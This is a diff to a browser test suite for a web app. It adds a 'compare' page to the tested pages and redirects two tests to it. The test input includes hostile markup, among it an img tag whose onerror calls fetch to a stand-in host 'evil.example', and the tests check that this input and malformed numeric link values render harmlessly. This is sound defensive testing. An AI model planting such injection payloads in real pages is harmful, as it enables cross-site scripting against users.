@@ -19,7 +19,7 @@ from pdcn.runs.folder import RunFolder
 from tests.browser.conftest import Tabs
 from tests.browser.driver import App, still
 
-PAGES = ["", "crosses", "embeddings", "inside", "retrieve", "latency", "findings", "data", "runs"]
+PAGES = ["", "compare", "crosses", "embeddings", "inside", "retrieve", "latency", "findings", "data", "runs"]
 SAYS = (
     "![x](http://evil.example/a.png) <img src=http://evil.example/b.png onerror=fetch('http://evil.example')> "
     "**evil** $evil$ :red[evil] :material/skull: [evil](http://evil.example) <a href='http://evil.example'>evil</a> "
@@ -137,12 +137,12 @@ def test_a_run_and_a_link_whose_every_text_is_hostile(tabs: Tabs, hostile: RunFo
 
 
 def test_a_link_to_a_hostile_name(tabs: Tabs) -> None:
-    harmless(tabs.open(f"?{link(SAYS + 'n' * 300)}"))
+    harmless(tabs.open(f"compare?{link(SAYS + 'n' * 300)}"))
 
 
 def test_no_number_in_a_link_takes_a_page_down(tabs: Tabs) -> None:
     no_numbers = {"epochs": "inf", "seeds": "1e400", "batch": "9" * 5_000, "tune": "1_000", "patience": "٣"}
-    page = tabs.open(f"?{urlencode(no_numbers)}")
+    page = tabs.open(f"compare?{urlencode(no_numbers)}")
     for key, text in no_numbers.items():
         (dial,) = (one for one in dials() if one.key == key)
         got = f"{text[:40]}{'…' * (len(text) > 40)}"
